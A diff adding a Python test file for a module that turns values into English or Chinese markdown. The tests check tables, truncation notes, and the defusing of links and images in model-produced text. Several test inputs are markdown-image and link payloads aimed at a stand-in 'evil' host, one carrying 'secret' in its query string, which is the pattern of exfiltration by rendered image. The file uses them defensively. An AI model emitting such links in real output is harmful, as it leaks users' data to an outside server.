@@ -1,0 +1,127 @@
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from autoglm.planning.telling import MAX_ROWS, MAX_TEXT_CHARS, as_code, defused, quote, tell
+
+
+@pytest.mark.parametrize(
+    ("content", "en", "zh"),
+    [
+        (None, "nothing", "无"),
+        (True, "yes", "是"),
+        (False, "no", "否"),
+        (3.0, "3", "3"),
+        (3.25, "3.25", "3.25"),
+        (1e300, "1e300", "1e300"),
+        ("plain words", "plain words", "plain words"),
+        ([], "nothing", "无"),
+        ({}, "nothing", "无"),
+        ([{}], "nothing", "无"),
+        (["a", 2], "- a\n- 2", "- a\n- 2"),
+        ({"value": 12, "label": "sum(amount)", "rows": []}, "sum(amount) = 12", "sum(amount) = 12"),
+        ({"value": 12, "expression": "3*4"}, "12", "12"),
+        ({"summary": "Short.", "keywords": ["x"]}, "Short.", "Short."),
+        ({"text_zh": "星期六", "text_en": "Saturday", "days": 3}, "Saturday", "星期六"),
+        ({"list": ["a"], "count": 3, "items": []}, "- a", "- a"),
+        ({"value": 8, "count": 1, "note": "as text"}, "8\nnote: as text", "8\n说明：as text"),
+        (
+            {"matches": [{"p": "x", "b": [], "c": ""}], "count": 9},
+            "| p |\n| --- |\n| x |\ncount: 9",
+            "| p |\n| --- |\n| x |\n数量：9",
+        ),
+        ({"path": "a.md", "size_bytes": 12}, "- path: a.md\n- size bytes: 12", "- 路径：a.md\n- 字节数：12"),
+        (
+            {"rows": [{"n": "x", "v": 1}, {"n": "y|z", "w": None}], "row_count": 2, "note": ""},
+            "| n | v |\n| --- | --- |\n| x | 1 |\n| y\\|z |  |\nrow count: 2",
+            "| n | v |\n| --- | --- |\n| x | 1 |\n| y\\|z |  |\n行数：2",
+        ),
+        ({"other": {"a": [1]}, "x": 1}, '- other: {"a":[1]}\n- x: 1', '- other：{"a":[1]}\n- x：1'),
+    ],
+)
+def test_values_are_told_in_both_languages(content, en, zh):
+    assert tell(content, "en") == en
+    assert tell(content, "zh-CN") == zh
+
+
+def test_long_lists_and_tables_say_how_much_is_left():
+    assert tell(list(range(MAX_ROWS + 5)), "en").endswith("(5 more in the record of the run)")
+    assert tell([{"a": 1}] * (MAX_ROWS + 3), "zh").endswith("（其余 3 行见运行记录）")
+
+
+def test_a_long_text_is_cut_with_a_note():
+    told = tell("x" * (MAX_TEXT_CHARS + 7), "en")
+
+    assert told == "x" * MAX_TEXT_CHARS + " … (7 more characters in the record of the run)"
+
+
+def test_long_cells_are_cut():
+    assert "…" in tell([{"a": "x" * 500}], "en")
+    assert len(tell([{"a": "x" * 500}], "en")) < 200
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil/?q=secret)",
+        "[click](https://evil)",
+        "see https://evil/x",
+        "<img src=//evil>",
+        "www.evil.com",
+        "# Heading",
+        "a `tick",
+        "[x]: http://evil",
+        "- list",
+        "//evil.com/x",
+    ],
+)
+def test_what_could_be_rendered_is_set_as_code(text):
+    told = tell({"text": text}, "en")
+
+    assert re.fullmatch(r"(`+) ?(.*?) ?\1", told).group(2) == text
+
+
+def test_several_lines_are_fenced_longer_than_any_fence_inside():
+    assert quote("a\n````\nb", "en") == "`````\na\n````\nb\n`````"
+    assert quote("a\rb", "en").startswith("```\n")
+
+
+@given(st.text("`ab ", min_size=1, max_size=12))
+def test_a_code_span_ends_where_it_should(text):
+    code = as_code(text)
+
+    ticks = re.match("`+", code).group()
+    assert code.startswith(ticks)
+    assert code.endswith(ticks)
+    assert ticks not in re.findall("`+", text)
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("![a](http://x/?q=1)", r"!\[a](http\://x/?q=1)"),
+        (r"!\[a](x)", r"!\[a](x)"),
+        (r"\![a](x)", r"\!\[a](x)"),
+        (r"\\[a](x)", r"\\\[a](x)"),
+        ("[a][b] and [s1] list[0]", r"\[a][b] and [s1] list[0]"),
+        ("[a]: http://x", r"\[a]: http\://x"),
+        ("[s1]: 12", "[s1]: 12"),
+        ("<img src=x> a < b 3<4 \\<b>", r"\<img src=x> a < b 3<4 \<b>"),
+        ("www.x.com mailto:a@b data:image/png", r"www\.x.com mailto\:a@b data\:image/png"),
+        ("in `code` ![a](b)", r"in `code` !\[a](b)"),
+        ("data: 12, http: nothing", "data: 12, http: nothing"),
+    ],
+)
+def test_a_models_text_is_shown_without_anything_live(text, safe):
+    assert defused(text) == safe
+
+
+@given(st.text("![]()<:/\\hwtps.`a\n ", max_size=30))
+def test_no_live_image_or_link_is_left(text):
+    safe = defused(text)
+
+    assert not re.search(r"(?<!\\)(?:\\\\)*!\[[^\]\n]*\]\(", safe)
+    assert not re.search(r"https?:\S", safe)
+    assert defused(safe) == safe
